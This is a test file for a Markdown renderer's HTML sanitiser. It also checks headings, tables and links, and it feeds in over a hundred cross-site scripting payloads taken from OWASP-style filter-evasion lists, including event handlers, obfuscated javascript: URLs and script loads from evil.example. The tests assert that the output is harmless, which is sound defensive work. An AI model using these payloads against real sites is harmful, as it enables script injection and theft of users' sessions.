import { describe, expect, test } from "bun:test";
import { renderMarkdown } from "../../src/markup/markdown.ts";

/** Browsers read an address without control characters, and take a backslash for a slash (WHATWG URL). */
function expectHarmless(value: string, element: string): void {
  const address = value
    .replaceAll("&quot;", '"')
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&amp;", "&");
  expect(address).not.toMatch(/^\s*\/\//);
  if (!URL.canParse(address, "https://conduit.example/")) return;
  const { protocol } = new URL(address, "https://conduit.example/");
  const isAllowed = ["http:", "https:", element === "img" ? "data:" : "mailto:"].includes(protocol);
  expect({ address, isAllowed }).toEqual({ address, isAllowed: true });
}

describe("Markdown", () => {
  test.each<[string, string, string]>([
    ["headings begin below the title", "# One\n\n###### Six", "<h2>One</h2>\n<h6>Six</h6>\n"],
    ["headings in HTML do too", "<h1>One</h1>", "<h2>One</h2>"],
    [
      "code has the class of its language",
      "```js\na < b\n```",
      '<pre tabindex="0"><code class="language-js">a &lt; b\n</code></pre>\n',
    ],
    ["tables are GFM's", "|a|b|\n|-|-:|\n|1|2|", /<th>a<\/th>\n<th align="right">b<\/th>/.source],
    ["so is strikethrough", "~~no~~", "<p><s>no</s></p>\n"],
    ["tasks have boxes", "- [ ] a\n- [x] b", "<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>\n"],
    [
      "bare addresses are links",
      "https://example.com/x",
      '<p><a href="https://example.com/x" rel="nofollow ugc">https://example.com/x</a></p>\n',
    ],
    ["names of files are none", "README.md", "<p>README.md</p>\n"],
    ["links give no reputation", "[a](/b)", '<p><a href="/b" rel="nofollow ugc">a</a></p>\n'],
    [
      "a picture alone keeps its place",
      "![x](https://e.org/a.png)",
      '<p class="picture"><img src="https://e.org/a.png" alt="x" loading="lazy" decoding="async" /></p>\n',
    ],
    ["harmless HTML stays", "<kbd>Ctrl</kbd> x<sub>2</sub>", "<p><kbd>Ctrl</kbd> x<sub>2</sub></p>\n"],
  ])("%s", (_, text, html) => {
    if (html.includes("\\/")) expect(renderMarkdown(text)).toMatch(new RegExp(html));
    else expect(renderMarkdown(text)).toBe(html);
  });

  // From the official browser suite, and beyond.
  test.each([
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<div onmouseover="alert(1)">x</div>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="//evil.example">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form action=/logout method=post><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    '<p style="position:fixed;inset:0">x</p>',
    '<p class="btn navbar" id=main>x</p>',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=x></object><embed src=x>",
    '```"onclick="alert(1)\nx\n```',
    "<!-- <script>alert(1)</script> -->",
    "<scr<script>ipt>alert(1)</script>",
    // Each technique of OWASP's list of ways around filters.
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14; javascript:alert(1);">',
    "<IMG SRC=`javascript:alert('1')`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88))>",
    "<IMG SRC=# onmouseover=alert(1)>",
    "<IMG onmouseover=alert(1)>",
    '<IMG SRC=/ onerror="alert(1)"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>",
    '<a href="\u0001java\u0002script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6a;avascript&#x3a;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    "<SCRIPT/XSS SRC=https://evil.example/x.js></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<SCRIPT/SRC=https://evil.example/x.js></SCRIPT>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/x.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=`('javascript:alert(1)')`",
    "<iframe src=https://evil.example/x.html <",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x',
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<BGSOUND SRC=javascript:alert(1);>",
    '<BR SIZE="&{alert(1)}">',
    '<LINK REL="stylesheet" HREF="https://evil.example/x.css">',
    "<STYLE>@import'https://evil.example/x.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
    "<STYLE TYPE=text/css>BODY{background:url(javascript:alert(1))}</STYLE>",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
    "<FRAMESET><FRAME SRC=javascript:alert(1)></FRAMESET>",
    '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">x',
    '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
    '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></xml>',
    "<? echo('<SCRIPT>alert(1)</SCRIPT>'); ?>",
    '<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>',
    '<SCRIPT =">" SRC=x></SCRIPT>',
    "<SCRIPT a=`>` SRC=x></SCRIPT>",
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC=x></SCRIPT>',
    '<a href="//www.evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=x onerror\u000b=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<a onclick=alert(1) href=#>x</a>",
    "<base target=_blank href=javascript://>",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://e.org "title" onclick=alert(1)")',
    "<template><img src=x onerror=alert(1)></template>",
    "<select><noembed></select><script>x='alert(1)'</script>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
  ])("is harmless: %s", (text) => {
    const html = renderMarkdown(`Before\n\n${text}\n\nand ${text} inline\n\nAfter`);
    expect(html).toContain("Before");
    // Nothing but elements and attributes of the list.
    const tags = [...html.matchAll(/<\/?([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"]*")?)*) ?\/?>/g)];
    expect(html.replace(/<\/?[a-z][a-z0-9]*(?: [a-z-]+(?:="[^"]*")?)* ?\/?>/g, "")).not.toContain("<");
    for (const [, name = "", attributes = ""] of tags) {
      expect("p img a kbd pre code br em strong table tbody tr td ul li details summary".split(" ")).toContain(name);
      for (const [, attribute = "", value = ""] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
        expect(["href", "src", "alt", "tabindex", "rel", "loading", "decoding", "class", "title"]).toContain(attribute);
        if (attribute === "href" || attribute === "src") expectHarmless(value, name);
        if (attribute === "class") expect(value).toMatch(/^(?:picture|language-\S+)$/);
      }
    }
  });

  test("shows pictures within a text as pictures, which run nothing", () => {
    const html = renderMarkdown("<img src='data:image/svg+xml,%3Csvg onload=alert(1)%3E'>");
    expect(html).toBe('<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E" loading="lazy" decoding="async" />');
  });

  test("does not grow without bounds by references", () => {
    const text = `[a]: /${"x".repeat(100_000)}\n\n${"[a] ".repeat(10_000)}`;
    expect(renderMarkdown(text).length).toBeLessThan(1_000_000);
  });

  test("has no half of a text that is nested too deeply", () => {
    expect(() => renderMarkdown(`${">".repeat(100)} text`)).toThrow("nested too deeply");
    expect(() => renderMarkdown("1. ".repeat(100))).not.toThrow("RangeError");
  });
});
